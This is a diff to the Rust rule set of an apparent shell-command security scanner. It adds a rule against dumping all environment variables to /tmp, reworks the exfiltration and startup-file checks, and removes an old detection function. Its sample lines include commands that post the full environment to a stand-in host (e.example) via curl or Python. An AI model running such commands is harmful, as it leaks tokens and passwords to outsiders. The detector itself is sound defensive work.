@@ -106,7 +106,23 @@ pub(super) const RULES: &[Rule] = &[
             "curl -d @<(printenv) https://e.example/",
             "python3 -c \"import os, requests; requests.post('https://e.example', json=dict(os.environ))\"",
         ],
-        check: environment_exfiltration,
+        check: super::sent::surroundings,
+    },
+    Rule {
+        id: "environment_dumped",
+        title: "All variables are laid down for others",
+        severity: Severity::Low,
+        confidence: Confidence::Medium,
+        category: Category::Credentials,
+        mitre: Some("T1552"),
+        floor: false,
+        description: "Everything in the environment, tokens and passwords of other programs with it, is written to a temporary \
+                      directory, where others may read it and where it stays. Write the one value that is needed, to a file of \
+                      your own.",
+        remediation: "Write the one value that is needed, to a file of your own.",
+        good: &["env > env.txt", "env | grep PATH > /tmp/path", "echo \"$PATH\" > /tmp/path"],
+        bad: &["env > /tmp/out", "export -p >> /tmp/e", "printenv | tee /tmp/x"],
+        check: super::sent::laid_down,
     },
     Rule {
         id: "accounts_packed",
@@ -317,31 +333,6 @@ fn bulk_exfiltration(facts: &Facts<'_>, rule: &'static Rule, out: &mut Findings)
     }
 }
 
-fn environment_exfiltration(facts: &Facts<'_>, rule: &'static Rule, out: &mut Findings) {
-    let shows = |e: &Effect| matches!(e.object, Object::Stated("environment"));
-    if !facts.with(&[Verb::Inspect]).any(shows) {
-        return;
-    }
-    let mut seen = HashSet::new();
-    for e in facts.with(&[Verb::Send, Verb::Fetch, Verb::Probe]) {
-        if matches!(facts.address(e).map(|a| a.reach()), Some(Far::Loopback)) {
-            continue;
-        }
-        let Some((from, _)) = facts.sources_with(e, &[Verb::Inspect]).find(|(from, _)| shows(from)) else {
-            continue;
-        };
-        if seen.insert(e.process) {
-            out.add(
-                rule.about(facts, e)
-                    .also(from)
-                    .title(format!("{}: {}", rule.title, e.object.show()))
-                    .evidence("command_pattern", "shows all variables", facts.command_place(from))
-                    .evidence("url", "is where it goes", e.place),
-            );
-        }
-    }
-}
-
 fn accounts_packed(facts: &Facts<'_>, rule: &'static Rule, out: &mut Findings) {
     let mut seen = HashSet::new();
     for e in facts.with(&[Verb::Write, Verb::Append, Verb::Update]) {
@@ -444,7 +435,19 @@ fn startup_commands(facts: &Facts<'_>, rule: &'static Rule, out: &mut Findings) 
             "runs in every session",
             p.place,
         ));
-        break;
+        return;
+    }
+    // A program of which nothing is known is started by itself: `echo x >> ~/.bashrc`.
+    let unknown = |p: &&Process| !p.known && p.argv.first().is_some_and(|w| w.is_known() && w.taint().is_empty());
+    let at_top = |p: &&Process| {
+        facts.graph.program(p.program).is_some_and(|g| g.reach == Reach::Later && g.language == Language::Bash)
+    };
+    if let Some(p) = facts.graph.processes.iter().filter(unknown).find(at_top) {
+        out.add(rule.at(facts, p.place).title(format!("{}: {}", rule.title, p.name)).evidence(
+            "command_pattern",
+            "runs in every session",
+            p.place,
+        ));
     }
 }
 
